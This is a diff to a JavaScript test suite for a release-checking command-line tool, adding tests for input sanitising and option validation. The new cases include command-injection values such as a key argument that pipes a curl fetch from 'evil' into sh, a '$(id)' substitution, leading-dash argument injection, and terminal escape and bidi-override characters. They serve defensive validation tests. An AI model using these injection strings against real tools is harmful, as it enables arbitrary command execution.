@@ -314,6 +314,16 @@ describe('npm run release -- first', () => {
     expect(of('COSIGN_KEY')).toMatchObject({ is: 'not seen', what: expect.stringContaining('hides its value') });
   });
 
+  it('shows what a registry says without what controls a terminal, and as no line of its own', async () => {
+    const { screen } = await look({ crane: () => failed('Error: \u001b[2J\u001b]0;x\u0007 all is well\r\u202Edone') });
+    expect(screen).toContain('all is well');
+    expect(screen).not.toMatch(/[^\P{Cc}\n]|\p{Cf}/u);
+  });
+
+  it('takes a token that was pasted with a line break', async () => {
+    expect((await look({ env: { GITLAB_TOKEN: `${TOKEN}\n` } })).of('project')).toMatchObject({ is: 'ok' });
+  });
+
   it('ends every next step as a sentence', async () => {
     const { findings } = await look({ env: {}, crane: () => failed('no such host'), npm: failed('ENOTFOUND') });
     for (const next of everyNext(findings)) expect(next).toMatch(/\.$/);
@@ -327,6 +337,10 @@ describe('its answers', () => {
     [['--gitlab=http://gitlab.agency.example'], /--gitlab: .* must begin with https/],
     [['--project=sagemaker-components'], /--project: .* must be a path/],
     [['--key=cosign.key'], /--key: .* must be file, or an address/],
+    [['--key=awskms:///alias/a;curl$IFS-evil|sh'], /--key: .* must be file, or an address/],
+    [['--key=awskms:///$(id)'], /--key: .* must be file, or an address/],
+    [['--pull=-x.agency.example/docker'], /--pull: .* must be a host/],
+    [['--project=-x/y'], /--project: .* must be a path/],
     [['--token=glpat-1'], /Unknown option '--token'/],
     [['--npm'], /--npm/],
   ])('are refused as options in words: %s', (words, mistake) => {
